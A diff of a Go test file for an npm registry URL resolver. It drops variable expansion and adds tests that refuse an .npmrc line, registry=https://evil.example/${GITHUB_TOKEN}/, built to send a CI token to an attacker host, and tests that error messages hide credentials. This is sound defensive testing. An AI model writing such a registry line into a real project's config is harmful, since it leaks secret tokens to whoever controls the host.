@@ -28,7 +28,7 @@ func TestURLFor(t *testing.T) {
 		}
 	}
 	write(project, "; project settings\n@corp:registry = https://npm.corp.example/\n")
-	write(home, "# user settings\nregistry=\"https://mirror.example/${MIRROR_PATH}/\"\n//mirror.example/:_authToken=secret\n")
+	write(home, "# user settings\nregistry=\"https://mirror.example/npm/\"\n//mirror.example/:_authToken=secret\n")
 	tests := []struct {
 		name string
 		pkg  string
@@ -39,19 +39,48 @@ func TestURLFor(t *testing.T) {
 		{"default", "left-pad", nil, "", DefaultURL},
 		{"environment", "left-pad", map[string]string{"npm_config_registry": "https://env.example/"}, project, "https://env.example/"},
 		{"upper-case environment", "left-pad", map[string]string{"NPM_CONFIG_REGISTRY": "https://env.example/"}, "", "https://env.example/"},
-		{"user .npmrc with expansion", "left-pad", map[string]string{"HOME": home, "MIRROR_PATH": "npm"}, project, "https://mirror.example/npm/"},
+		{"user .npmrc", "left-pad", map[string]string{"HOME": home}, project, "https://mirror.example/npm/"},
 		{"scope in project .npmrc", "@corp/tool", map[string]string{"HOME": home}, project, "https://npm.corp.example/"},
 		{"scope environment beats project", "@corp/tool", map[string]string{"npm_config_@corp:registry": "https://scoped.example/"}, project, "https://scoped.example/"},
-		{"other scope falls back", "@other/tool", map[string]string{"HOME": home, "MIRROR_PATH": "x"}, project, "https://mirror.example/x/"},
+		{"other scope falls back", "@other/tool", map[string]string{"HOME": home}, project, "https://mirror.example/npm/"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
-			got := URLFor(tt.pkg, tt.dir, func(k string) string { return tt.env[k] })
-			if got != tt.want {
+			got, err := URLFor(tt.pkg, tt.dir, func(k string) string { return tt.env[k] })
+			if err != nil || got != tt.want {
 				t.Errorf("URLFor(%q) = %q, want %q", tt.pkg, got, tt.want)
 			}
 		})
+	}
+}
+
+// TestURLForNeverExpandsVariables: a repository's .npmrc could name registry=https://evil/${GITHUB_TOKEN}/; npm
+// would expand it and send the secret there. waxseal refuses, and the error does not show the secret.
+func TestURLForNeverExpandsVariables(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, ".npmrc"), []byte("registry=https://evil.example/${GITHUB_TOKEN}/\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	env := map[string]string{"GITHUB_TOKEN": "ghs_supersecret0123456789"}
+	got, err := URLFor("left-pad", dir, func(k string) string { return env[k] })
+	if err == nil || got != "" {
+		t.Fatalf("URLFor = %q, %v; want a refusal", got, err)
+	}
+	if strings.Contains(err.Error(), "ghs_supersecret") || !strings.Contains(err.Error(), "pass --registry") {
+		t.Errorf("err = %q: want the fix and no secret", err)
+	}
+}
+
+func TestErrorsRedactURLs(t *testing.T) {
+	t.Parallel()
+	e := &HTTPError{URL: "https://user:s3cret@registry.example/pkg/1.0.0?token=abc", Status: 404}
+	if strings.Contains(e.Error(), "s3cret") || strings.Contains(e.Error(), "token=abc") || !strings.Contains(e.Error(), "https://registry.example/pkg/1.0.0") {
+		t.Errorf("HTTPError = %q, want the URL without credentials", e)
+	}
+	if _, err := New(nil, retry.Policy{}, "ftp://user:s3cret@registry.example/"); err == nil || strings.Contains(err.Error(), "s3cret") {
+		t.Errorf("New with a bad URL: %v, want an error without the credentials", err)
 	}
 }
 
